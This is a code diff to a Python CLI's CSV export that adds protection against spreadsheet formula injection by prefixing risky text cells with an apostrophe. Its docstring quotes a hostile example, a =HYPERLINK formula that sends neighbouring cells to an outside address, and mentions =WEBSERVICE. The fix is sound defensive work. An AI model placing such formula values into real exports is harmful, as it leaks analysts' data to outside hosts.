@@ -4,7 +4,11 @@ Why: analysts pipe ``alerts``, ``stats`` and ``sql`` into spreadsheets and scrip
 table is noise and report fields (hostile: commas, quotes, newlines, control characters) must arrive
 intact. CSV goes through :mod:`csv` and JSON through :mod:`json`, never through string formatting.
 Written to a terminal, control characters in CSV cells are shown escaped (as in tables) so none reaches
-the terminal as a command; written to a file or a pipe, every value is exactly what is stored.
+the terminal as a command; written to a file or a pipe, every value is exactly what is stored, but for one
+thing: a text cell that a spreadsheet would run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab
+or a carriage return) gets a leading apostrophe. A lab may name a substance ``=HYPERLINK("https://…?"&A2,"3-MMC")``;
+opened in Excel or LibreOffice, the analyst's export sent its neighbouring cells to that address on a click
+(and ``=WEBSERVICE(…)`` needs no click). JSON carries every value exactly.
 """
 
 from __future__ import annotations
@@ -38,7 +42,8 @@ FormatOption = Annotated[
     typer.Option(
         "--format",
         case_sensitive=False,
-        help="table (for people), csv or json (for programs: every value whole and exact).",
+        help="table (for people), csv (for spreadsheets: a text cell starting with = + - @ gets a leading ' so it "
+        "is never run as a formula) or json (for programs: every value whole and exact).",
     ),
 ]
 
@@ -60,17 +65,26 @@ def to_json(data: Any) -> str:
     return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
 
 
+#: First characters that make a spreadsheet read a text cell as a formula (OWASP, "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _csv_cell(value: Any, escape: bool) -> Any:
     if value is None:
         return ""
     value = jsonable(value)
     if isinstance(value, list | dict):
         value = json.dumps(value, ensure_ascii=False)
-    return visible(value) if escape and isinstance(value, str) else value
+    if not isinstance(value, str):
+        return value  # numbers are numbers: -3 is not a formula
+    if value.startswith(FORMULA_STARTS):
+        value = "'" + value  # shown as text, the apostrophe hidden, by Excel and LibreOffice
+    return visible(value) if escape else value
 
 
 def write_csv(columns: Sequence[str], rows: Iterable[Sequence[Any]], stream: TextIO | None = None) -> None:
-    """A header line and one record per row (RFC 4180 quoting; None as an empty field)."""
+    """A header line and one record per row (RFC 4180 quoting; None as an empty field; a text cell a spreadsheet
+    would run as a formula starts with an apostrophe)."""
     out = stream or sys.stdout
     escape = out.isatty()
     writer = csv.writer(out, lineterminator="\n")
